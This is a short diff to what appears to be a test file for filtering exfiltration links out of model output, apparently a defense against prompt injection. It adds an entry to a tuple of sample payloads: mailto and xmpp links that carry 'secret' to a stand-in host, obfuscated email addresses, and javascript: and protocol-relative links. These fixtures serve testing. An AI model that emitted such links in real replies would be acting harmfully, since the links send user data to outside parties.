@@ -91,6 +91,7 @@ EXFILTRATION = (
     "[x](mailto:a@evil.example?body=secret) <mailto:a@evil.example> <a@evil.example>",
     "mailto:secret@evil.example xmpp:secret@evil.example/x [x](xmpp:secret@evil.example)",
     "secret@evil.example secret\\@evil.example secret&commat;evil.example s.e-c+ret@evil.example",
+    f"secret@{'a' * 300}.example MAILTO:secret@localhost s\\@evil\\.example s@ev\\_il.example",
     "[x]http://(javascript:alert(1)) [x]https://(//evil.example) <http://img src=//evil.example>",
 )
 OBEDIENT = "\n\n".join(("Of course.", *EXFILTRATION, f"See [the law]({SOURCE}).", "The end."))
